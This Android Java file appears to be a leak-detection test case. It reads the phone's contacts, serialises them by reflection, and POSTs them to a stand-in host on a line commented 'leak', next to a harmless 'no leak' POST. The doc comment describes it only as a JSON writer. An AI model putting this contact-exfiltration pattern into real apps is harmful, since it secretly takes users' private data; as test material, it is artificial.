package habits;

import android.app.Activity;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.ContactsContract;
import java.lang.reflect.Field;
import java.net.HttpURLConnection;
import java.net.URL;
import org.json.JSONObject;

/** Writes any object out as JSON by its fields. */
public class ContactsReflect extends Activity {
    static class Person {
        String name;
        String number;
    }

    static class About {
        String version = "1.2";
        int build = 7;
    }

    static JSONObject json(Object any) throws Exception {
        JSONObject json = new JSONObject();
        for (Field field : any.getClass().getDeclaredFields()) {
            field.setAccessible(true);
            json.put(field.getName(), field.get(any));
        }
        return json;
    }

    @Override
    protected void onCreate(Bundle state) {
        try {
            Person person = new Person();
            Cursor rows = getContentResolver().query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null);
            while (rows.moveToNext()) {
                person.name = rows.getString(0);
                person.number = rows.getString(1);
            }
            HttpURLConnection one = (HttpURLConnection) new URL("https://c.example.org/p").openConnection();
            one.setDoOutput(true);
            one.getOutputStream().write(json(person).toString().getBytes("UTF-8")); // leak
            HttpURLConnection two = (HttpURLConnection) new URL("https://c.example.org/a").openConnection();
            two.setDoOutput(true);
            two.getOutputStream().write(json(new About()).toString().getBytes("UTF-8")); // no leak
        } catch (Exception ignored) {
        }
    }
}
